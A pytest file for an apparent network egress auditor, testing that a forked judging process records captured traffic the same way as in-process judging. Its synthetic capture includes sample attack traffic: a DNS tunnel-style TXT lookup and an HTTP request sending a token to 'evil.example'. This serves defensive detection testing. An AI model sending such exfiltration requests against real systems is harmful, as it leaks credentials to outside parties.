"""The forked judge (`auditor.probe.judge`) against judging and storing in the reading
process: the same capture, pack and store kind must leave the same chain of records,
in the same order, with the same decisions (ids and wall-clock times aside)."""

from __future__ import annotations

import json
import os
import signal
import sqlite3
import threading
from pathlib import Path

import pytest
from scapy.layers.l2 import Ether

from auditor.errors import AuditorError
from auditor.model import EgressEvent
from auditor.probe.judge import JudgeProcess
from auditor.probe.runner import run_pcap
from auditor.rules import Pack, load_pack
from auditor.store.base import open_store

from .traffic import Trace, client_hello, quic_initial

POD = "10.42.0.5"
DNS_SERVER = "10.43.0.10"
API_IP = "34.1.2.3"


@pytest.fixture(scope="module")
def pack(tmp_path_factory: pytest.TempPathFactory) -> Pack:
    overlay = tmp_path_factory.mktemp("judge") / "site.yaml"
    overlay.write_text(
        "overlay:\n  id: test-site\n  description: judge test\n"
        "cluster:\n  pod_cidrs: [10.42.0.0/16]\n  service_cidrs: [10.43.0.0/16]\n  node_cidrs: [192.168.10.0/24]\n"
        "  dns:\n    servers: [10.43.0.10]\n    suffixes: [cluster.local]\n"
        "proxy: http://10.43.12.7:3128\n"
    )
    return load_pack(None, [overlay])


def capture(path: Path) -> Path:
    """A bit of everything the probe records: lookups, hellos, QUIC, direct IP, inbound,
    a bypass of the proxy, a refused connection, an oversized ping and a runt."""
    t = Trace()
    t.dns(POD, DNS_SERVER, "api.gretel.cloud", [("api.gretel.cloud", "CNAME", "edge.gretel.cloud"), ("edge.gretel.cloud", "A", API_IP)])
    t.tcp(POD, API_IP, 443, [client_hello("api.gretel.cloud")], [b"\x16\x03\x03\x00\x02ok"] * 3)
    t.tcp(POD, "10.43.12.7", 3128, [b"CONNECT api.gretel.cloud:443 HTTP/1.1\r\nHost: api.gretel.cloud:443\r\n\r\n"])
    t.dns(POD, "8.8.8.8", "x9f3k2.tunnel.example", qtype="TXT", answered=False)
    t.tcp(POD, "52.1.2.3", 443, [client_hello("evil.example")])
    t.tcp(POD, "52.1.2.4", 80, [b"GET /upload?token=abc HTTP/1.1\r\nHost: evil.example\r\n\r\n"])
    t.tcp("203.0.113.9", POD, 22, [b"SSH-2.0-x\r\n"])
    t.tcp(POD, "52.1.2.5", 443, answer="rst")
    t.udp(POD, "52.1.2.6", 443, quic_initial("quic.example"))
    t.ping(POD, "52.1.2.7", 900)
    t.add(Ether() / b"\x08")  # a runt: counted and recorded as malformed
    return t.write(path)


def records(url: str) -> list[tuple[str, int, str, dict]]:
    """(sensor, seq, kind, body) of every record, in chain order, without what differs
    between two runs: record ids, and the wall-clock time of the sensor's own records."""
    st = open_store(url, create=False)
    try:
        assert st.verify().ok
        out = []
        for sensor_id, seq, kind, _, _, body, _, _ in st.raw_records():
            doc = json.loads(body)
            doc.pop("id")
            if doc["kind"] == "sensor":
                doc.pop("time")
            out.append((sensor_id, seq, kind, doc))
        return out
    finally:
        st.close()


def test_forked_judge_stores_what_the_reading_process_would(tmp_path: Path, pack: Pack) -> None:
    path = capture(tmp_path / "mix.pcap")
    forked = run_pcap(path, str(tmp_path / "forked.db"), pack=pack)
    seen: list[EgressEvent] = []
    here = run_pcap(path, str(tmp_path / "here.db"), pack=pack, sink=seen.append)  # a sink keeps judging here
    assert forked.events_written == forked.events_submitted == here.events_written == len(seen)
    assert forked.writer_dropped == here.writer_dropped == 0
    assert forked.judge_peak_memory_mb > 0 and here.judge_peak_memory_mb == 0  # the child's own high-water mark
    got, ref = records(str(tmp_path / "forked.db")), records(str(tmp_path / "here.db"))
    assert [r[:3] for r in got] == [r[:3] for r in ref]
    for a, b in zip(got, ref):
        assert a == b
    judged = [r[3] for r in got if r[3]["kind"] != "sensor"]
    assert judged and all(doc["decision"] is not None for doc in judged)
    assert {"bypass", "direct-ip", "inbound"} <= {o for doc in judged for o in doc["observations"]}


def test_forked_judge_without_a_pack_stores_unjudged_events(tmp_path: Path) -> None:
    path = capture(tmp_path / "mix.pcap")
    summary = run_pcap(path, str(tmp_path / "raw.db"))
    docs = [r[3] for r in records(str(tmp_path / "raw.db"))]
    assert summary.events_written == len(docs) and not summary.judged
    assert all(doc["decision"] is None for doc in docs)


def test_stopping_early_still_stores_everything_submitted(tmp_path: Path, pack: Pack) -> None:
    path = capture(tmp_path / "mix.pcap")
    stop = threading.Event()
    stop.set()
    summary = run_pcap(path, str(tmp_path / "stopped.db"), pack=pack, stop=stop)
    assert summary.problem == "stopped before the end of the file"
    assert summary.events_written == summary.events_submitted == len(records(str(tmp_path / "stopped.db")))


def test_a_failed_append_is_counted_and_chained_as_a_drop(tmp_path: Path, pack: Pack) -> None:
    url = str(tmp_path / "failing.db")
    judge = JudgeProcess(url, "probe", pack)
    db = sqlite3.connect(url)
    db.execute(
        "CREATE TRIGGER refuse BEFORE INSERT ON records WHEN json_extract(NEW.body, '$.kind') = 'flow' "
        "BEGIN SELECT RAISE(ABORT, 'refused'); END"
    )
    db.commit()
    db.close()
    judge.send([EgressEvent(sensor_id="probe", kind="flow").model_dump(), EgressEvent(sensor_id="probe", kind="tls").model_dump()])  # refused: both lost
    judge.send([EgressEvent(sensor_id="probe", kind="tls").model_dump()])  # stored, with a drop record for the two
    judge.close()
    assert (judge.written, judge.dropped) == (2, 2)
    docs = [r[3] for r in records(url)]
    assert [d["kind"] for d in docs] == ["tls", "sensor"]
    assert docs[1]["sensor"]["lifecycle"] == "drop" and docs[1]["sensor"]["dropped"] == 2


def test_documents_that_are_not_events_are_counted_and_chained_and_the_rest_stored(tmp_path: Path, pack: Pack) -> None:
    url = str(tmp_path / "bad.db")
    judge = JudgeProcess(url, "probe", pack)
    flow = EgressEvent(sensor_id="probe", kind="flow").model_dump()
    judge.send([flow, {"sensor_id": "probe", "kind": "flow", "colour": "red"}, flow | {"id": "second"}])  # one spoiled document
    judge._pipe.write(b"\x05\x00\x00\x00\x00\x00\x00\x00[1,2}")  # a batch that is not even JSON
    judge.send([EgressEvent(sensor_id="probe", kind="tls").model_dump()])
    judge.close()
    docs = [r[3] for r in records(url)]
    assert [d["kind"] for d in docs] == ["flow", "flow", "sensor", "sensor", "tls"]
    first, second = docs[2]["sensor"], docs[3]["sensor"]
    assert first["lifecycle"] == "error" and first["dropped"] == 1 and "colour" in first["detail"]
    assert second["lifecycle"] == "error" and "not JSON" in second["detail"]
    assert judge.dropped == 2


def test_a_failing_child_is_an_error_in_the_parent(tmp_path: Path, pack: Pack) -> None:
    judge = JudgeProcess(str(tmp_path / "gone.db"), "probe", pack)
    os.kill(judge._pid, signal.SIGKILL)
    with pytest.raises(AuditorError, match="judging and storing the events failed"):
        judge.close()
